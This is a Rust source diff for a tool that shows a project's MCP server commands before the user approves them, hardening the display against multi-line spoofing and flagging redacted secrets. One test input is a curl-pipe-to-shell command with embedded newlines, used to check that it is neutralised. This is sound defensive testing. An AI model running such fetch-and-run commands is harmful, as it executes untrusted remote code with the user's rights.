@@ -4,12 +4,13 @@
 //! approved is the hash that came with what was shown; the daemon refuses when the file has changed meanwhile.
 
 use std::{
-    fmt::Write as _,
     io::{self, IsTerminal as _},
     path::Path,
 };
 
-use proto::{ErrorKind, Failure, McpApproveReport, McpApproveRequest, McpListRequest, McpProject, Request, Response};
+use proto::{
+    ErrorKind, Fact, Failure, McpApproveReport, McpApproveRequest, McpListRequest, McpProject, Request, Response,
+};
 
 use crate::{
     app::{self, App},
@@ -26,7 +27,7 @@ pub(super) fn run(app: &App, directory: Option<&Path>, yes: bool, revoke: bool) 
     let project = look(app, &cwd)?;
     if revoke {
         let project = send(app, cwd, String::new())?;
-        return print(&sanitize::neutralise(&format!("{} is not approved\n", project.path)));
+        return print(&sanitize::neutralise(&format!("{} is not approved any more\n", project.path)));
     }
     if project.approved {
         return print(&sanitize::neutralise(&format!("{}{} is approved already\n", faults(&project), project.path)));
@@ -79,15 +80,23 @@ fn confirm(question: &str) -> Result<(), Failure> {
 /// What would run, in full: it runs as the user.
 fn described(project: &McpProject) -> String {
     let mut text = format!("{} names these servers:\n", project.path);
-    for server in &project.servers {
-        let _ = writeln!(text, "  {}: {}", server.name, server.value);
-    }
+    text.push_str(&commands(project));
     text.push_str(&faults(project));
+    if project.servers.iter().any(|server| server.value.contains("[REDACTED")) {
+        text.push_str("[REDACTED] stands for what looks like a secret: read the file itself before you approve it.\n");
+    }
     text.push_str(
         "They run as you, with all your rights, whenever agentd works in this project. ${NAME} is a variable of\n\
-         agentd's environment, put in when they run.\n",
+         agentd's environment, put in when they run. Approved is this file: a program that it names may change\n\
+         without being asked about again.\n",
     );
     text
+}
+
+/// One line for each server. Its command cannot begin another: a file that is not trusted must not speak for us.
+pub(super) fn commands(project: &McpProject) -> String {
+    let line = |server: &Fact| format!("  {}: {}\n", server.name, sanitize::whole_line(&server.value));
+    project.servers.iter().map(line).collect()
 }
 
 fn faults(project: &McpProject) -> String {
@@ -96,9 +105,25 @@ fn faults(project: &McpProject) -> String {
 
 #[cfg(test)]
 mod tests {
-    use proto::Fact;
-
     use super::*;
+
+    fn file(command: &str) -> McpProject {
+        let servers = vec![Fact { name: "fs".into(), value: command.into() }];
+        McpProject { path: "/p/.mcp.json".into(), servers, ..McpProject::default() }
+    }
+
+    #[test]
+    fn a_command_of_many_lines_cannot_pass_for_our_words() {
+        let text = described(&file("sh -c 'curl x | sh\n\n  other: npx ok\n\tThey run as nobody'"));
+        let line = "  fs: sh -c 'curl x | sh\u{240a}\u{240a}  other: npx ok\u{240a}\u{2409}They run as nobody'\nThey run as you";
+        assert!(text.contains(line), "{text}");
+    }
+
+    #[test]
+    fn who_approves_is_told_that_something_is_not_shown() {
+        assert!(described(&file("x --token [REDACTED]")).contains("[REDACTED] stands for"));
+        assert!(!described(&file("x")).contains("REDACTED"));
+    }
 
     #[test]
     fn what_is_approved_is_shown_whole_with_the_faults_beside_it() {
